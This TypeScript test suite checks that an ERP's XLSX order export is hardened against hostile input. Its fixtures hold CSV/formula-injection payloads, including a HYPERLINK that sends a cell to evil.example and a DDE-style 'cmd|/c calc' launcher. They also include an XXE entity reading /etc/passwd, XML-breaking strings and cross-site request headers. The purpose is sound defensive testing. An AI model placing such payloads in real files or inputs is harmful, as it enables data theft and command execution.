import assert from 'node:assert/strict'
import { describe, it } from 'node:test'

import { strFromU8, unzipSync } from 'fflate'
import { create } from 'xmlbuilder2'

import { MAX_TEXT_LENGTH } from '../../node/connectors/values/text'
import { EXPORTS, exportedWorkbook, readWorkbook } from '../service/export-file'
import { useStoreOfPagedErp } from '../service/paged-erp'
import { send } from './attacked-store'

const PATH = 'orders?lang=en&format=xlsx'
const LONGEST_CELL = 32_767

describe('A workbook of what an attacker has typed into the ERP', () => {
  const { store, scripted } = useStoreOfPagedErp()

  const exportOf = async (fields: Readonly<Record<string, unknown>>, count = 2) => {
    scripted({ count, fields })
    const file = await exportedWorkbook(store(), 'ana', PATH)
    const parts = Object.entries(unzipSync(file)).map(
      ([name, content]) => [name, strFromU8(content)] as const
    )
    // Each part is XML, whatever the reader below would forgive.
    for (const [, xml] of parts) create(xml)
    return { file, parts, ...readWorkbook(file) }
  }

  it('holds no formula, and the text as it is', async () => {
    const typed = {
      customerOrderNumber: '=HYPERLINK("https://evil.example?"&A1,"x")',
      placedBy: '+cmd|/c calc!A1',
      costCenter: '@SUM(1+1)*cmd',
      ownerName: '-2+3',
      statusLabel: '_x003D_1+1',
    }
    const { rows, parts, book } = await exportOf(typed)
    assert.equal(rows.length, 2)
    for (const row of rows) {
      assert.deepEqual(
        ['My order', 'Placed by', 'Cost center', 'Company', 'Status in the ERP'].map(
          (name) => row[name]
        ),
        Object.values(typed)
      )
    }
    for (const [name, xml] of parts) {
      assert.doesNotMatch(xml, /<f[ >/]|t="str"|<hyperlink|externalLink|ddeLink/i, name)
    }
    for (const name of book.SheetNames) {
      const cells = Object.entries(book.Sheets[name] ?? {}).filter(([place]) => !/^!/.test(place))
      for (const [, cell] of cells) assert.equal((cell as { f?: string }).f, undefined)
    }
  })

  it('is not ended by a text that ends its XML, and loads nothing from elsewhere', async () => {
    const typed = {
      customerOrderNumber: '</t></is></c></row></sheetData></worksheet>',
      placedBy: ']]><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
      ownerName: '"/><sheet name="x" sheetId="9" r:id="rId9"/>',
      statusLabel: '&#61;1+1&lt;f&gt;1',
      costCenter: '<c r="A1"><f>1+1</f></c>',
    }
    const { rows, parts, book } = await exportOf(typed, 101)
    assert.equal(rows.length, 101)
    for (const row of rows) {
      assert.deepEqual(
        ['My order', 'Placed by', 'Company', 'Status in the ERP', 'Cost center'].map(
          (name) => row[name]
        ),
        Object.values(typed)
      )
    }
    assert.deepEqual(book.SheetNames, ['Orders', 'About this file'])
    for (const [, xml] of parts) assert.doesNotMatch(xml, /<!|TargetMode/)
  })

  it('has the same parts whatever a text is called after', async () => {
    const { rows } = await exportOf({
      ...{ customerOrderNumber: 'constructor', placedBy: '__proto__', ownerName: 'toString' },
    })
    assert.deepEqual(
      rows.map((row) => [row['My order'], row['Placed by'], row.Company]),
      Array.from({ length: 2 }, () => ['constructor', '__proto__', 'toString'])
    )
  })

  it('is opened with texts longer than any cell: they are cut to what a buyer reads of one', async () => {
    const { rows } = await exportOf({
      costCenter: 'x'.repeat(LONGEST_CELL + 1),
      statusLabel: '_x0041_'.repeat(LONGEST_CELL),
    })
    assert.equal(rows[0]?.['Cost center'], 'x'.repeat(MAX_TEXT_LENGTH))
    assert.equal(String(rows[0]?.['Status in the ERP']).length, MAX_TEXT_LENGTH)
  })

  it('drops what XML does not allow', async () => {
    const { rows } = await exportOf({ costCenter: 'a\u0000b\u0008c\ud800d\ufffee\uffff' })
    assert.equal(rows[0]?.['Cost center'], 'a b cde')
  })

  it('ends before an ERP that talks without end has filled the worker', async () => {
    const { rows, notes, file } = await exportOf({ costCenter: 'x'.repeat(30_000) }, 5_000)
    assert.equal(rows.length, 2_000)
    assert.deepEqual(notes, ['Cut at 2000 rows: there is more. Narrow the search.'])
    assert.ok(file.length < 16_000_000)
  })

  it('is not for another site: neither to load from, nor to send a person to', async () => {
    scripted({ count: 1 })
    const ask = (headers: Readonly<Record<string, string>>, method = 'GET') =>
      send(store(), { as: 'ana', method, path: `${EXPORTS}/${PATH}`, headers })
    const site = { 'sec-fetch-site': 'cross-site' }
    const foreign: ReadonlyArray<Readonly<Record<string, string>>> = [
      { ...site, 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' },
      { ...site, 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'script' },
      { origin: 'https://evil.example' },
    ]
    for (const headers of foreign) {
      assert.equal((await ask(headers)).status, 403, JSON.stringify(headers))
    }
    assert.equal((await ask({}, 'POST')).status, 405)
    assert.equal((await ask({ 'sec-fetch-site': 'same-origin' })).status, 200)
  })
})
